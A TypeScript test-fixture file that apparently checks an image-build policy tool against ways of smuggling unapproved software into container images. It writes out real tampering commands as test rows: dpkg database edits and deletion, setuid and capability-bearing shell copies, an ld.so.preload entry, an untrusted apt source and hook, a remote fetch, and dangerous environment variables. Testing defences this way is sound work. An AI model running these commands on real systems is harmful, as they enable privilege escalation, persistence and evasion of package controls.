import { attempt, brings, type HostFacts, type HostileRow } from "./row.js";

const PROGRAM = "printf '#!/bin/sh\\necho evil\\n'";
const SITE = "/usr/lib/python3/dist-packages";

/** Ways round the package databases. */
const DATABASE_ROWS: readonly HostileRow[] = [
  brings("dpkg-extract", "cd /tmp && apt-get download unapproved && dpkg -x unapproved_*.deb / && rm unapproved_*.deb"),
  brings(
    "dpkg-status-cut",
    "apt-get install -y unapproved",
    "sed -i '/^Package: unapproved$/,/^$/d' /var/lib/dpkg/status",
    "rm -f /var/lib/dpkg/info/unapproved.*",
  ),
  brings("dpkg-removed", `${PROGRAM} > /usr/bin/dpkg-removed`, "rm -rf /var/lib/dpkg"),
  brings(
    "dpkg-elsewhere",
    "dpkg --admindir=/tmp/db --force-all -i /nonexistent || true",
    `${PROGRAM} > /usr/bin/dpkg-elsewhere && chmod 755 /usr/bin/dpkg-elsewhere`,
  ),
  brings(
    "dpkg-depends",
    "apt-get install -y unapproved",
    "sed -i '/^Package: tool$/a Depends: unapproved' /var/lib/dpkg/status",
  ),
  brings("dpkg-list", `${PROGRAM} > /usr/bin/dpkg-list`, "echo /usr/bin/dpkg-list >> /var/lib/dpkg/info/tool.list"),
  brings(
    "dpkg-forged",
    "mkdir -p /tmp/d/DEBIAN /tmp/d/usr/bin",
    "printf 'Package: tool\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n' > /tmp/d/DEBIAN/control",
    `${PROGRAM} > /tmp/d/usr/bin/tool`,
    "dpkg-deb -b /tmp/d /tmp/t.deb && dpkg -i --force-all /tmp/t.deb",
    "rm -rf /tmp/d /tmp/t.deb",
  ),
  brings("dpkg-edited", "echo 'echo evil' >> /usr/bin/tool"),
  brings(
    "dpkg-edited-with-sum",
    "echo 'echo evil' >> /usr/bin/tool",
    "(cd / && md5sum usr/bin/tool) > /var/lib/dpkg/info/tool.md5sums",
  ),
  brings("dpkg-missing", "rm /usr/bin/tool"),
  brings(
    "dpkg-diverted",
    "dpkg-divert --local --rename --add /usr/bin/tool",
    `${PROGRAM} > /usr/bin/tool && chmod 755 /usr/bin/tool`,
  ),
  brings(
    "dpkg-alternative",
    `${PROGRAM} > /opt/evil && chmod 755 /opt/evil`,
    "update-alternatives --install /usr/bin/pager pager /opt/evil 999",
  ),
];

/** Ways to bring something that no package database knows. */
const FILE_ROWS: readonly HostileRow[] = [
  brings(
    "static-binary",
    "printf '\\177ELF\\2\\1\\1' > /usr/local/bin/static-binary && chmod 755 /usr/local/bin/static-binary",
  ),
  brings("static-binary-hidden", "printf '\\177ELF\\2\\1\\1' > /var/lib/static-binary.txt"),
  brings("script-at-odd-place", `${PROGRAM} > '/usr/lib/ script' && chmod 755 '/usr/lib/ script'`),
  brings(
    "below-dev",
    `${PROGRAM} > /dev/below-dev && chmod 755 /dev/below-dev; mkdir -p /dev/.x && cp /bin/sh /dev/.x/`,
  ),
  brings("setuid", "cp /bin/sh /usr/local/bin/setuid && chmod 4755 /usr/local/bin/setuid"),
  brings(
    "capability",
    "python3 -c \"import os, shutil, struct; shutil.copy('/bin/sh', '/opt/sh'); os.setxattr('/opt/sh', 'security.capability', struct.pack('<IIIII', 0x2000001, 1 << 7, 0, 0, 0))\"",
  ),
  attempt("device", "mknod /opt/device c 1 1"),
  brings("preload", "echo /opt/preload.so > /etc/ld.so.preload && printf '\\177ELF' > /opt/preload.so"),
  brings("python-module", `mkdir ${SITE}/left_pad && echo 'print(1)' > ${SITE}/left_pad/__init__.py`),
  brings("python-path-file", `echo 'import os' > ${SITE}/python-path-file.pth`),
  brings(
    "python-archive",
    "python3 -c \"import zipfile; zipfile.ZipFile('/opt/x.pyz', 'w').writestr('__main__.py', 'print(1)')\"",
  ),
  brings(
    "node-modules-renamed",
    'mkdir -p /opt/modules_/left-pad && echo \'{"name":"left-pad","version":"1.3.0"}\' > /opt/modules_/left-pad/package.json && echo 1 > /opt/modules_/left-pad/index.js',
  ),
  brings(
    "node-package-without-json",
    "mkdir -p /usr/lib/node_modules/left-pad && echo 1 > /usr/lib/node_modules/left-pad/index.js",
  ),
  brings(
    "java-archive",
    "python3 -c \"import zipfile; zipfile.ZipFile('/opt/app.jar', 'w').writestr('A.class', 'x')\"",
  ),
  {
    name: "stage-binary",
    image: {
      stages: [{ name: "s", parent: "python", setup: ["printf '\\177ELF' > /opt/stage-binary"] }],
      artifacts: [{ image: "s", path: "/opt/stage-binary", target: "/usr/local/bin/stage-binary" }],
    },
    expect: "refused",
  },
];

/** Ways to bring in something that no list approves. */
export const packageRows = ({ url }: HostFacts): readonly HostileRow[] => [
  ...DATABASE_ROWS,
  ...FILE_ROWS,
  {
    name: "parent-source",
    image: {
      parent: "parent-source-base",
      "system-packages": ["other"],
      tests: [{ file: "/usr/bin/other", contains: "good" }],
    },
    more: {
      "parent-source-base": {
        setup: [`echo 'deb [trusted=yes] ${url}/evil ./' > /etc/apt/sources.list`],
      },
    },
    expect: "clean",
  },
  {
    name: "parent-hook",
    image: { parent: "parent-hook-base", "system-packages": ["other"] },
    more: {
      "parent-hook-base": { setup: ["echo 'DPkg::Post-Invoke { \"touch /escaped\"; };' > /etc/apt/apt.conf.d/99hook"] },
    },
    expect: "clean",
  },
  attempt(
    "fetched",
    `python3 -c "import urllib.request; urllib.request.urlretrieve('${url}/fetched', '/escaped')" 2>/dev/null`,
  ),
];

/** Definitions that are refused, or warned of, before anything runs. */
export const definitionRows: readonly HostileRow[] = [
  ...[
    ["LD_PRELOAD", "/x.so"],
    ["NODE_OPTIONS", "--require=/x"],
    ["BASH_ENV", "/x"],
    ["npm_config_registry", "http://127.0.0.1:9"],
    ["http_proxy", "http://127.0.0.1:9"],
    ["PATH", ".:/usr/bin:/bin"],
  ].map(([name = "", value = ""]): HostileRow => {
    const row = `env-${name.toLowerCase().replaceAll("_", "-")}`;
    return { name: row, image: { env: { [name]: value } }, expect: [`error dangerous-env images/${row}/image.yaml`] };
  }),
  {
    name: "base-on-plain",
    image: { kind: "BaseImage", parent: "base-on-plain-below" },
    more: { "base-on-plain-below": {} },
    expect: ["error base-on-image images/base-on-plain/image.yaml"],
  },
  {
    name: "command-installs",
    image: { run: { cmd: "pip install flask && flask run" } },
    expect: ["warning installs-at-start images/command-installs/image.yaml"],
  },
  {
    name: "command-sets",
    image: { run: { entrypoint: ["env", "LD_PRELOAD=/x.so", "tool"] } },
    expect: ["warning dangerous-env images/command-sets/image.yaml"],
  },
];
